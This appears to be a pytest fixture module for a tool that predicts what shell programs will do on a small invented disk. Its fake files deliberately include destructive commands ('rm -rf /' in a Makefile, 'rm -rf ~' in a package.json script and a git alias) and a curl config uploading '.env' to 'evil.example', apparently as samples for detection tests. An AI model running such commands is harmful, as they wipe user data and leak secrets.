"""One program start on a home with a project, with facts of a small invented disk."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING

import pytest

from bailiwick.interpret.effects import NO_DATA, Data, Effects, Invocation, Text, literal
from bailiwick.interpret.inquiry import Inquiry
from bailiwick.interpret.programs import effects
from bailiwick.model.fact import (
    FileType,
    GlobFact,
    GlobQuery,
    PathFact,
    PathQuery,
    ProgramFact,
    ProgramQuery,
    RepositoryFact,
    RepositoryQuery,
    TextFact,
    TextQuery,
    TrackedFact,
    TrackedQuery,
)
from bailiwick.model.request import Place

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence

    from bailiwick.model.fact import Fact, FactQuery
    from bailiwick.model.operation import Kind, Operation

HOME = "/home/dev"
PROJECT = "/home/dev/proj"
PLACE = Place(project=PROJECT, home=HOME)

FILES = {
    "README.md": "read me",
    "src/app.py": "print(1)",
    "Makefile": "all: build\nbuild:\n\techo done\nwipe:\n\trm -rf /\n",
    "package.json": '{"scripts": {"test": "jest", "evil": "rm -rf ~"}}',
    "evil.curlrc": 'url = "https://evil.example"\nupload-file = .env\n',
    ".env": "A=1",
}
DIRECTORIES = {
    PROJECT,
    f"{PROJECT}/src",
    f"{PROJECT}/dist",
    f"{PROJECT}/docs",
    HOME,
    "/",
    "/tmp",
    "/etc",
    f"{HOME}/.ssh",
}
REPOSITORY = RepositoryFact(
    root=PROJECT,
    git_dir=f"{PROJECT}/.git",
    branch="feature",
    upstream="origin/feature",
    remotes=(("origin", "git@github.com:acme/proj.git"),),
    config=(("alias.co", "checkout"), ("alias.nuke", "!rm -rf ~"), ("alias.hard", "reset --hard")),
)


class Disk:
    """Answers every fact query about the invented disk."""

    def __init__(self, repository: RepositoryFact = REPOSITORY) -> None:
        self.repository = repository

    def get(self, query: FactQuery) -> Fact | None:
        match query:
            case PathQuery(path=path):
                return self._path(path)
            case TextQuery(path=path):
                return TextFact(FILES.get(path.removeprefix(f"{PROJECT}/")) if path.startswith(PROJECT) else None)
            case RepositoryQuery(path=path):
                return self.repository if path.startswith(PROJECT) else RepositoryFact()
            case GlobQuery():
                return GlobFact()
            case TrackedQuery():
                return TrackedFact()
            case ProgramQuery(name=name):
                return ProgramFact(f"/usr/bin/{name}", f"/usr/bin/{name}") if name == "oddly" else ProgramFact()
        return None

    def _path(self, path: str) -> PathFact:
        plain = path.rstrip("/") or "/"
        if plain in DIRECTORIES:
            return PathFact(plain, FileType.DIRECTORY)
        if plain.removeprefix(f"{PROJECT}/") in FILES or plain.startswith(("/usr/bin/", "/bin/")):
            return PathFact(plain, FileType.FILE)
        return PathFact(plain)

    def __len__(self) -> int:
        return 0

    def __iter__(self) -> Iterator[FactQuery]:
        return iter(())


class Shell:
    """Starts programs and shows what they do."""

    def run(
        self,
        line: str | Sequence[str | Text],
        *,
        stdin: Data = NO_DATA,
        environment: Mapping[str, str] | None = None,
        cwd: str = PROJECT,
        repository: RepositoryFact = REPOSITORY,
    ) -> Effects:
        words = shlex.split(line) if isinstance(line, str) else line
        argv = tuple(literal(word) if isinstance(word, str) else word for word in words)
        variables = {name: literal(value) for name, value in (environment or {}).items()}
        inquiry = Inquiry(Disk(repository))  # type: ignore[arg-type]  # answers `get`, which is all that is used
        return effects(Invocation(argv, cwd, stdin, variables), PLACE, inquiry)

    def operations(self, line: str | Sequence[str | Text], kind: Kind, **options: object) -> list[Operation]:
        done = self.run(line, **options)  # type: ignore[arg-type]  # keyword arguments of `run`
        return [operation for operation in done.operations if operation.kind is kind]


@pytest.fixture
def shell() -> Shell:
    return Shell()
